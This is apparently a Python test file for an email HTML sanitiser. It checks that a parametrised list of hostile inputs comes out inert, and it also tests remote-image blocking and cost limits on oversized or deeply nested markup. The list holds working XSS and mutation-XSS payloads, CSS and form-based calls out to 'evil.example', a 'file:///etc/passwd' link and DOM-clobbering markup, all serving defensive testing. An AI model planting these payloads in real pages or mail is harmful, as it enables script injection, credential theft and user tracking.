"""Hostile HTML comes out without anything that runs, loads, sends or leaves its frame; judged by another parser."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from spindle.mail.html import clean

OURS = "/mail/1/pictures/0/"
FORBIDDEN_NAMES = (
    "script iframe frame frameset object embed applet form input button select option textarea link meta base svg math "
    "video audio source track canvas template noscript title xmp plaintext portal image foreignobject"
)
FORBIDDEN = frozenset(FORBIDDEN_NAMES.split())


class Judge(HTMLParser):
    """Collects what is wrong with a piece of cleaned HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_style = tag == "style"
        if tag in FORBIDDEN:
            self.faults.append(tag)
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self._css(data)

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name in {
            "srcset",
            "background",
            "formaction",
            "poster",
            "action",
            "id",
            "name",
            "ping",
        }:
            self.faults.append(f"{tag} {name}")
        if name == "style":
            self._css(value)
        if name == "src" and value != OURS and not value.startswith("data:image/"):
            self.faults.append(f"src {value}")
        if name == "href" and not re.match(r"(?:https?|mailto|tel):", value, re.IGNORECASE):
            self.faults.append(f"href {value}")

    def _css(self, text: str) -> None:
        if re.search(
            r"url|expression|@import|javascript|behavior|binding|position|\\|<|/\*", text, re.IGNORECASE
        ):
            self.faults.append(f"css {text}")


def faults(html: str) -> list[str]:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.faults


HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img/src=`x`onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#x1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:image/png;base64,AAAA">x</a>',
    '<a href="da&#9;ta:text/html,x">x</a><a href="&#1;data:text/html,x">y</a><a href="&#160;data:text/html,x">z</a>',
    '<a href="vbscript:x">x</a><a href="file:///etc/passwd">y</a><a href="//evil.example">z</a><a href="/logout">w</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="data:text/html;base64,PHN2Zz4=">',
    '<img src="/accounts/logout/">',
    "<svg onload=alert(1)><image href=https://evil.example/x.png></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>x</script>",
    "<textarea><img src=x onerror=alert(1)></textarea><title><script>alert(1)</script></title>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x><applet code=x>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:x>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/y>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>@im\\port url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    "<style>body{background:u\\72 l(https://evil.example/x.png)}</style>",
    "<style>body{background:u/**/rl(https://evil.example/x.png)}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>",
    "<style>p{color:red}</style ><script>alert(1)</script>",
    "<style>p{font-family:'</style><script>alert(1)</script>'}</style>",
    "<style>a[href^='x']{background:image-set('https://evil.example/x.png' 1x)}</style>",
    "<style>p{x:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)}</style>",
    "<style><!-- p{position:fixed;top:0;left:0} --></style>",
    "<style>@media screen{p{position:absolute}} @supports (x:y){p{background:url(//e.example)}}</style>",
    "<p style='position:fixed;inset:0;z-index:99'>over all</p>",
    "<p style=\"background:url('//evil.example/x')\">x</p>",
    '<p style="background-image:\\75rl(https://evil.example)">x</p>',
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='color:red;}</style><script>alert(1)</script>'>x</p>",
    "<table background=https://evil.example/x.png><tr><td background='//evil.example'>x</table>",
    "<body background=https://evil.example/x.png onload=alert(1) style='background:url(https://evil.example)'>x",
    "<img srcset='https://evil.example/x.png 2x' src=cid:known>",
    "<picture><source srcset=https://evil.example/x.png><img src=https://evil.example/y.png></picture>",
    "<video poster=https://evil.example/x.png src=https://evil.example/v></video><audio src=//evil.example></audio>",
    "<div id=quoted class=quoted name=x>clobber</div><a id=document name=forms>x</a>",
    "<p><!--[if mso]><script>alert(1)</script><![endif]-->x</p><!--><img src=x onerror=alert(1)>-->",
    "<a href=https://x.example ping=https://evil.example onclick=alert(1) target=_top>x</a>",
    "<isindex action=javascript:alert(1) type=image><marquee onstart=alert(1)>x</marquee>",
    '<div><p title="</div><script>alert(1)</script>">x',
    "\x00<scr\x00ipt>alert(1)</script>",
    "<img src=x:alert(1) onerror=eval(src)><img src='\x01cid:known'>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html: str) -> None:
    assert faults(clean(f"<p>before</p>{html}", pictures={"known": OURS}).html) == []


@pytest.mark.parametrize("html", HOSTILE)
def test_cleaning_twice_is_cleaning_once(html: str) -> None:
    once = clean(html, pictures={"known": OURS}).html
    assert faults(clean(once, pictures={"known": OURS}).html) == []


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(HOSTILE) | st.sampled_from(list("<>\"'=/ &;-!{}()\\")) | st.text(max_size=5),
        max_size=12,
    )
)
def test_no_mixture_is_left_hostile(pieces: list[str]) -> None:
    assert faults(clean("".join(pieces), pictures={"known": OURS}).html) == []


@pytest.mark.parametrize(
    ("html", "count"),
    [
        ('<img src="https://x.example/a.png">', 1),
        ('<img src="//x.example/a.png">', 1),
        ('<img srcset="https://x.example/a.png 2x">', 1),
        ('<table background="http://x.example/a.png"><tr><td>x</table>', 1),
        ('<p style="background:url(http://x.example/a.png)">x</p>', 1),
        ("<style>p{background:url('//x.example/a.png')} b{background:u\\72l(http://x.example)}</style>", 2),
        ('<video poster="https://x.example/a.png"></video>', 1),
        ('<link rel="prefetch" href="https://x.example/">', 1),
        ('<svg><image href="https://x.example/a.png"/></svg>', 1),
        ('<img src="cid:known"><img src="data:image/png;base64,AAAA"><img src="cid:unknown">', 0),
        ("<p>none</p>", 0),
    ],
)
def test_remote_pictures_are_blocked_and_counted(html: str, count: int) -> None:
    cleaned = clean(html, pictures={"known": OURS})
    assert cleaned.blocked_pictures == count
    assert "x.example" not in cleaned.html


@pytest.mark.parametrize(
    "html",
    [
        pytest.param("<div>" * 100_000 + "x", id="deep"),
        pytest.param("<b>" * 50_000 + "x", id="formatting"),
        pytest.param("<table><tr><td>" * 10_000 + "x", id="tables"),
        pytest.param("<" * 1_000_000 + "x", id="brackets"),
        pytest.param("<style>" + "@media x {" * 50_000 + "</style>x", id="media"),
        pytest.param("<style>" + "a{" * 100_000 + "</style>x", id="braces"),
        pytest.param('<p style="' + "url(" * 100_000 + '">x', id="urls"),
        pytest.param("<blockquote type=cite>" * 5_000 + "x", id="quotes"),
        pytest.param("<a" * 500_000, id="tags without an end"),
        pytest.param("<div></x>" * 50_000, id="end tags of nothing"),
        pytest.param("<div><!--</div>-->" * 50_000, id="end tags in comments"),
        pytest.param("<div><table></div></table>" * 30_000, id="end tags behind a wall"),
        pytest.param("<div><svg><![CDATA[></div>]]></svg>" * 20_000, id="end tags in data"),
        pytest.param("<li><dd>" * 100_000, id="items in items"),
        pytest.param("".join(f"<p><b class={n}>x" for n in range(50_000)), id="formatting kept open"),
        pytest.param("<p " + " ".join(f"a{n}" for n in range(200_000)) + ">x", id="attributes"),
        pytest.param(
            "<p x='<>' " + " ".join(f"a{n}='>'" for n in range(80_000)) + ">x", id="hidden attributes"
        ),
        pytest.param("<style>a{background:url(" + " " * 200_000 + ")}</style>x", id="spaces in an address"),
        pytest.param('<p style="color: a' + " " * 200_000 + 'b">x', id="spaces in a value"),
        pytest.param("<style>@media" + " " * 200_000 + "\x01{a{color:red}}</style>x", id="spaces in media"),
    ],
)
def test_hostile_size_and_depth_cost_little(html: str) -> None:
    start = time.monotonic()
    cleaned = clean(html, pictures={})
    assert time.monotonic() - start < 5
    assert len(cleaned.html) < 6_000_000


def test_what_is_too_deep_loses_its_tags_and_no_word() -> None:
    html = "".join(f"<div>word{n} " for n in range(1000)) + "</div>" * 1000 + "<p>after</p>"
    cleaned = clean(html, pictures={}).html
    assert all(f"word{n} " in cleaned for n in range(1000))
    assert "<p>after</p>" in cleaned
    assert cleaned.count("<div>") < 1000


def test_sloppy_markup_keeps_its_look() -> None:
    row = "<tr><td><span>one<td><font color=red>two</tr>"
    html = (
        f"<table>{row * 300}</table>"
        + "<p>a<p>b" * 300
        + "<b>bold <i>both</b> slanted</i><ul><li>x<li>y</ul>"
    )
    cleaned = clean(html, pictures={}).html
    assert cleaned.count("<td><span>one</span></td>") == 300
    assert cleaned.count('<font color="red">two</font>') == 300
    assert cleaned.count("<p>b</p>") == 299
    assert "<b>bold <i>both</i></b><i> slanted</i>" in cleaned
    assert "<li>x</li><li>y</li>" in cleaned
